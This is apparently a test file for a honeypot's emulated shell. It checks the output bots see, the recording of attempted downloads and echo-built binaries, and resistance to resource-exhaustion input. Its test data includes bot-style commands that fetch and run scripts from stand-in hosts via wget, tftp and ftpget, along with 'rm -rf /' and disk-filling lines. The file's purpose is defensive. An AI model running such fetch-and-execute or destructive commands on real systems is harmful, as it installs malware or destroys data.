// The fake shell: what bots type, what they see, what is recorded; and that nothing they type breaks or fills it.
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { leftFiles, run } from './run.ts';
import { newShell, prompt, type ShellEvent, type ShellState, shellLimits } from './state.ts';

const at = Date.UTC(2026, 0, 2, 3, 4, 5);
const server = () => newShell({ flavour: 'server', user: 'root', host: 'server', now: at });
const device = () => newShell({ flavour: 'busybox', user: 'admin', host: 'router', now: at });

/** Runs lines one after another. */
function type(start: ShellState, ...lines: string[]) {
  let state = start;
  let output = '';
  const events: ShellEvent[] = [];
  for (const line of lines) {
    const result = run(state, line, at);
    state = result.state;
    output += result.output;
    events.push(...result.events);
  }
  return { state, output, events };
}
const shown = (line: string, start = server()) => type(start, line).output;

describe('what visitors look at', () => {
  test.each([
    ['uname -a', 'Linux server 5.10.0-28-amd64 #1 SMP Debian 5.10.209-2 (2024-01-31) x86_64 GNU/Linux\n'],
    ['whoami && id -u', 'root\n0\n'],
    ['cd /tmp; pwd', '/tmp\n'],
    ['cat /etc/passwd | head -n 1', 'root:x:0:0:root:/root:/bin/bash\n'],
    ['cat /proc/cpuinfo | grep processor | wc -l', '2\n'],
    ['nosuch; echo $?', '-bash: nosuch: command not found\n127\n'],
    ['false || echo "a;b" | cat', 'a;b\n'],
    ['echo $(whoami)@`hostname` \'$HOME\' "$HOME"', 'root@server $HOME /root\n'],
    ['A=one; echo ${A}two', 'onetwo\n'],
    ['echo -e "\\x41\\x42\\n" > /tmp/f; cat /tmp/f', 'AB\n\n'],
    ['sh -c "echo in; exit"', 'in\n'],
    ['echo d2hvYW1p | base64 -d | sh', 'root\n'],
    ['cat /nosuch', 'cat: /nosuch: No such file or directory\n'],
    ['date +%s', `${at / 1000}\n`],
  ])('%s', (line, output) => expect(shown(line)).toBe(output));

  test('a device answers as BusyBox does, with the applet probe of Mirai-like bots', () => {
    expect(shown('/bin/busybox ECCHI', device())).toBe('ECCHI: applet not found\n');
    expect(shown('busybox echo hi', device())).toBe('hi\n');
    expect(shown('foo', device())).toBe('sh: foo: not found\n');
    expect(prompt(device())).toBe('# ');
    expect(prompt(type(server(), 'cd /var/www').state)).toBe('root@server:/var/www# ');
  });
});

describe('what is recorded', () => {
  test.each([
    ['wget http://198.51.100.9/a.sh -O- | sh', 'http://198.51.100.9/a.sh'],
    ['cd /tmp || cd /var; wget -q 198.51.100.9/b', 'http://198.51.100.9/b'],
    ['curl -s -o x http://198.51.100.9/c', 'http://198.51.100.9/c'],
    ['/bin/busybox tftp -g -l m -r mips 198.51.100.9', 'tftp://198.51.100.9/mips'],
    ['ftpget -u a -p b 198.51.100.9 local remote', 'ftp://198.51.100.9/remote'],
    ['python3 -c "import os; os.system(\'fetch http://198.51.100.9/d\')"', 'http://198.51.100.9/d'],
  ])('%s asks for a download', (line, url) => {
    expect(type(device(), line).events).toContainEqual(expect.objectContaining({ kind: 'download', url }));
  });

  test.each([
    'wget http://192.0.2.7/x -O-',
    'wget -qO- http://192.0.2.7/x',
    'wget -O /tmp/x http://192.0.2.7/x',
  ])('%s asks for one thing only', line =>
    expect(type(device(), line).events.filter(event => event.kind === 'download')).toHaveLength(1),
  );

  test('a file built with echo is captured when it is made executable, once, and again when it changes', () => {
    const built = type(
      device(),
      'echo -ne "\\x7f\\x45" > /tmp/d',
      'echo -ne "\\x4c\\x46" >> /tmp/d',
      'chmod 777 /tmp/d; /tmp/d',
    );
    expect(built.events).toEqual([{ kind: 'file', name: '/tmp/d', content: '\x7fELF' }]);
    expect(leftFiles(built.state)).toEqual([]);
    expect(leftFiles(type(built.state, 'echo more >> /tmp/d').state)).toHaveLength(1);
  });

  test('a script that was written and run is itself read', () => {
    const { events } = type(server(), 'echo "wget http://198.51.100.9/z" > s; sh s');
    expect(events.map(event => event.kind)).toEqual(['file', 'download', 'download'].slice(0, events.length));
    expect(events).toContainEqual({ kind: 'download', url: 'http://198.51.100.9/z', tool: 'wget' });
  });

  test('exit leaves, history remembers', () => {
    expect(run(server(), 'echo a; exit; echo b', at)).toMatchObject({ output: 'a\n', exit: true });
    expect(run(server(), 'sh -c exit; echo b', at)).toMatchObject({ output: 'b\n', exit: false });
    expect(type(server(), 'id', 'history').output).toContain('    1  id\n    2  history\n');
  });
});

describe('hostile lines', () => {
  const words = fc.constantFrom(
    ...'echo cat sh -c eval busybox wget > >> < | || && ; & ( ) $( ` \' " \\ $ ${ } $A A=1 /tmp/f f .. ~ -e -n \\x41 while do done for exit xargs sudo dd if=/bin/ls of=x bs=9999999 count=9 cp mv rm -rf / __proto__ constructor'.split(
      ' ',
    ),
  );
  const line = fc.oneof(
    fc.string({ unit: 'binary', maxLength: 300 }),
    fc.array(words, { maxLength: 60 }).map(list => list.join(' ')),
  );

  test('never throw; output, files and events stay bounded', () => {
    fc.assert(
      fc.property(fc.array(line, { maxLength: 12 }), fc.constantFrom(server, device), (lines, start) => {
        let state = start();
        for (const text of lines) {
          const result = run(state, text, at);
          state = result.state;
          expect(result.output.length).toBeLessThanOrEqual(shellLimits.output);
          expect(result.events.length).toBeLessThanOrEqual(80);
          expect(state.files.size).toBeLessThanOrEqual(shellLimits.files);
        }
      }),
      { numRuns: 1_500 },
    );
  });

  test.each([
    ['doubling a file', Array(40).fill('cat f f f f f f f f > g; cp g f')],
    ['endless nesting', ['echo "sh /tmp/l; sh /tmp/l" > /tmp/l', 'sh /tmp/l']],
    ['deep substitution', [`${'$('.repeat(4_000)}id${')'.repeat(4_000)}`]],
    ['many commands', ['id;'.repeat(2_700)]],
    ['doubling a variable', Array(60).fill('A=$A$A$A$A$A$A$A$A'.replace('A=', 'A=x'))],
    ['many separators', [`${'|'.repeat(4_000)}${'&'.repeat(4_000)}`]],
    ['long quoted', [`echo ${"'a'".repeat(2_700)}`]],
  ])('%s ends quickly', (_, lines) => {
    const began = performance.now();
    const { state } = type(server(), 'echo 0123456789 > f', ...lines);
    expect(performance.now() - began).toBeLessThan(2_000);
    let size = 0;
    for (const file of state.files.values()) if (typeof file === 'object') size += file.content.length;
    expect(size).toBeLessThanOrEqual(shellLimits.fileBytes);
  });
});
